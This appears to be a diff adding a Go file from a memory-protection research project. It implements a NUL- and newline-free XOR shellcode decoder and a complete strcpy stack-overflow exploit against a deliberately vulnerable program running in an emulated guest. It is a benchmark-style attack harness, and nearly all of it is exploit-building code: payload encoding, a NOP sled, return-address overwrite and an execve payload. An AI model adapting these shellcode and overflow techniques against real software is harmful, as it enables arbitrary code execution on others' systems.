@@ -1,0 +1,233 @@
+package attacks
+
+import (
+	"encoding/binary"
+	"fmt"
+
+	"splitmem"
+	"splitmem/internal/guest"
+)
+
+// Wilander & Kamkar's benchmark reaches its overflows through strcpy(),
+// which imposes the classic shellcoding constraint: the payload may contain
+// no NUL bytes (strcpy stops) and, for line-oriented readers, no newlines.
+// Real exploits answer with an encoded payload and a constraint-free
+// decoder stub. This file implements that craft for S86: a 49-byte
+// NUL/LF-free XOR decoder that unpacks the real shellcode in place and
+// falls through into it.
+
+// forbidden reports whether b may not appear on the wire.
+func forbidden(b byte) bool { return b == 0x00 || b == '\n' }
+
+// CleanBytes reports whether the buffer is free of forbidden bytes.
+func CleanBytes(b []byte) bool {
+	for _, c := range b {
+		if forbidden(c) {
+			return false
+		}
+	}
+	return true
+}
+
+// pickKey finds an XOR key byte such that every encoded payload byte (and
+// the key itself, replicated into an imm32) is clean.
+func pickKey(payload []byte) (byte, error) {
+next:
+	for k := 1; k < 256; k++ {
+		key := byte(k)
+		if forbidden(key) {
+			continue
+		}
+		for _, b := range payload {
+			if forbidden(b ^ key) {
+				continue next
+			}
+		}
+		return key, nil
+	}
+	return 0, fmt.Errorf("attacks: no clean XOR key exists for payload")
+}
+
+// decoderLen is the size of the decoder stub emitted by NulFreeShellcode.
+const decoderLen = 49
+
+// NulFreeShellcode wraps payload in a NUL/LF-free XOR decoder positioned at
+// addr. The result, when executed at addr, reconstructs payload in place
+// (at addr+49) and runs it. It fails if addr-derived immediates are not
+// clean — callers slide the landing address (e.g. with a NOP sled) until
+// they are.
+func NulFreeShellcode(addr uint32, payload []byte) ([]byte, error) {
+	key, err := pickKey(payload)
+	if err != nil {
+		return nil, err
+	}
+	start := addr + decoderLen // where the encoded payload sits
+	esi0 := start + 1
+	edi0 := start + uint32(len(payload)) + 1
+
+	stub := make([]byte, 0, decoderLen+len(payload))
+	imm := func(v uint32) []byte {
+		var b [4]byte
+		binary.LittleEndian.PutUint32(b[:], v)
+		return b[:]
+	}
+	// mov esi, start+1
+	stub = append(stub, 0xBE)
+	stub = append(stub, imm(esi0)...)
+	// mov edi, end+1
+	stub = append(stub, 0xBF)
+	stub = append(stub, imm(edi0)...)
+	// mov ebx, 0x01010101 ; shr ebx, 24  -> ebx = 1 without NUL immediates
+	stub = append(stub, 0xBB, 0x01, 0x01, 0x01, 0x01)
+	stub = append(stub, 0xD3, 0x03, 24)
+	// loop: loadb edx, [esi-1]
+	stub = append(stub, 0x8A, 0x02, 0x06, 0xFF, 0xFF, 0xFF, 0xFF)
+	// xor edx, key*0x01010101
+	stub = append(stub, 0x35, 0x02, key, key, key, key)
+	// storeb [esi-1], edx
+	stub = append(stub, 0x88, 0x06, 0x02, 0xFF, 0xFF, 0xFF, 0xFF)
+	// add esi, ebx
+	stub = append(stub, 0x01, 0x06, 0x03)
+	// cmp esi, edi
+	stub = append(stub, 0x39, 0x06, 0x07)
+	// jnz loop (rel32 = -31)
+	stub = append(stub, 0x85)
+	stub = append(stub, imm(uint32(0xFFFFFFE1))...)
+
+	if len(stub) != decoderLen {
+		return nil, fmt.Errorf("attacks: decoder is %d bytes, expected %d", len(stub), decoderLen)
+	}
+	for _, b := range payload {
+		stub = append(stub, b^key)
+	}
+	if !CleanBytes(stub) {
+		return nil, fmt.Errorf("attacks: stub for addr %#x is not NUL/LF-free", addr)
+	}
+	return stub, nil
+}
+
+// strcpyVictimSrc is the Wilander-faithful strcpy scenario: input arrives
+// via read_line (newline-terminated) into a large static buffer and is then
+// strcpy'd into a 64-byte stack buffer — so the overflow payload must be
+// NUL- and newline-free end to end.
+const strcpyVictimSrc = `
+_start:
+    call vuln
+    mov eax, survived
+    push eax
+    call print
+    add esp, 4
+    mov eax, 0
+    push eax
+    call exit
+
+vuln:
+    push ebp
+    mov ebp, esp
+    sub esp, 64
+    ; leak the frame ("FRM xxxxxxxx"), the usual info-leak stand-in
+    push ebp
+    mov eax, leakbuf
+    push eax
+    call itoa_hex
+    add esp, 8
+    mov eax, frmpfx
+    push eax
+    call print
+    add esp, 4
+    mov eax, leakbuf
+    push eax
+    call print
+    add esp, 4
+    mov eax, newline
+    push eax
+    call print
+    add esp, 4
+    ; read_line(0, linebig, 512)
+    mov eax, 512
+    push eax
+    mov eax, linebig
+    push eax
+    mov eax, 0
+    push eax
+    call read_line
+    add esp, 12
+    ; BUG: strcpy into the 64-byte stack buffer
+    mov eax, linebig
+    push eax
+    lea eax, [ebp-64]
+    push eax
+    call strcpy
+    add esp, 8
+    mov esp, ebp
+    pop ebp
+    ret
+
+.data
+frmpfx:   .asciz "FRM "
+newline:  .asciz "\n"
+survived: .asciz "SURVIVED\n"
+leakbuf:  .space 12
+          .space 256        ; keep linebig above xx00-offset addresses
+linebig:  .space 520
+`
+
+// RunStrcpyScenario mounts the constraint-respecting strcpy attack.
+//
+// Two classic tricks combine here. First, stack addresses near the
+// 0xBFFF0000 top contain NUL bytes and the frame leaves only ~88 bytes
+// above the buffer, so the return address points back into the STAGING
+// buffer (the static line buffer the input was read into, whose
+// 0x0806xxxx address is clean) where the whole line still sits. Second,
+// the line carries a NUL terminator right after the return address: the
+// line reader stores the entire line, but strcpy copies only the 72-byte
+// NUL-free prefix — the overflow stays inside the frame while the decoder
+// and encoded shellcode ride along behind the NUL.
+func RunStrcpyScenario(cfg splitmem.Config) (Result, error) {
+	t, err := NewTarget(cfg, strcpyVictimSrc, "strcpy-victim")
+	if err != nil {
+		return Result{}, err
+	}
+	prog, err := splitmem.Assemble(guest.WithCRT(strcpyVictimSrc))
+	if err != nil {
+		return Result{}, err
+	}
+	linebig, ok := prog.Symbol("linebig")
+	if !ok {
+		return Result{}, fmt.Errorf("no linebig symbol")
+	}
+	if out, waited := t.WaitOutput("FRM "); !waited {
+		return Result{Notes: "no leak: " + out}, nil
+	}
+	// Wire layout: [64 filler][fake ebp][ret -> linebig+73][NUL][sled][stub].
+	const stubOff = 73
+	landing := linebig + stubOff
+	var stub []byte
+	sled := 0
+	for ; sled < 32; sled++ {
+		inner := ExecveShellcode(landing + uint32(sled) + decoderLen)
+		stub, err = NulFreeShellcode(landing+uint32(sled), inner)
+		if err == nil {
+			break
+		}
+	}
+	if err != nil {
+		return Result{}, err
+	}
+	retVal := landing
+	if !CleanBytes(le32(retVal)) {
+		return Result{Notes: "staging address produces forbidden bytes"}, nil
+	}
+	prefix := pad(nil, 64, 'A')
+	prefix = append(prefix, le32(0x41414141)...) // fake saved ebp (clean)
+	prefix = append(prefix, le32(retVal)...)
+	if !CleanBytes(prefix) {
+		return Result{Notes: "prefix not clean"}, nil
+	}
+	line := append(prefix, 0x00) // strcpy stops here; read_line does not
+	line = append(line, NopSled(sled, stub)...)
+	t.Send(append(line, '\n'))
+	t.Close()
+	t.Run()
+	return t.Result(), nil
+}
